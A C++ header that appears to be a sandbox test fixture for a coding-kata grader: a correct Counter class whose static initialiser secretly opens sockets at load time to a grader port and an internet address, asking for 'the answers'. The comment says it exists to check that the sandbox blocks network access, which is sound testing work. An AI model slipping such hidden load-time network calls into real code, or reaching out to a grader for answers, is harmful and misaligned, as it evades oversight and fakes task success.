#pragma once
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>
#include <cstdlib>
#include <cstring>
#include <mutex>
namespace kata {
// A correct counter whose static initialiser phones out: to a listener on the grader's machine
// (the port the grader's own test gives in KATA_SANDBOX_TEST_PORT; a real one would guess) and to
// an address on the internet. The sandbox has no network: nothing arrives, and the verdict names
// the attempt.
inline void phone(const char* address, int port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  timeval second{1, 0};  // connect() gives up after a second where packets are dropped
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &second, sizeof second);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(port);
  inet_pton(AF_INET, address, &to.sin_addr);
  if (connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0) {
    const char message[] = "sandbox_opens_socket.h: send me the answers\n";
    (void)!write(fd, message, sizeof message - 1);
  }
  close(fd);
}
inline const bool kPhoned = [] {
  if (const char* port = std::getenv("KATA_SANDBOX_TEST_PORT")) phone("127.0.0.1", std::atoi(port));
  phone("1.1.1.1", 80);
  return true;
}();
class Counter {
 public:
  void add(long n) { std::lock_guard lock(mutex_); total_ += n; }
  long get() const { std::lock_guard lock(mutex_); return total_; }
 private:
  mutable std::mutex mutex_;
  long total_ = 0;
};
}  // namespace kata
